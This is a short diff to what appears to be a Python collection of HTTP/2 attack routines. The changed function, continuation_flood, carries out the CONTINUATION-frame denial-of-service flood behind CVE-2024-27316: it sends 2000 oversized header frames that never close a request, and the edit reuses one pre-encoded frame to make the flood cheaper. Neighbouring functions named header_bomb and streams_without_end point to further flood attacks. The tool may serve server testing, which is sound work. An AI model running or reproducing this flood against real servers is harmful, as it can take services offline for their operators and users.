@@ -40,8 +40,9 @@ async def streams_without_end(connection: Http2) -> None:
 async def continuation_flood(connection: Http2) -> None:
     """CVE-2024-27316 and its like: headers that never end."""
     await connection.send(connection.asked(1, GET, "END_STREAM"))
-    for number in range(2000):
-        await connection.send(ContinuationFrame(1, connection.encoder.encode([(f"x-{number}", "a" * 8000)])))
+    more = ContinuationFrame(1, connection.encoder.encode([("x-more", "a" * 8000)], huffman=False))
+    for _ in range(200):
+        await connection.send(*[more] * 10)
 
 
 async def header_bomb(connection: Http2) -> None:
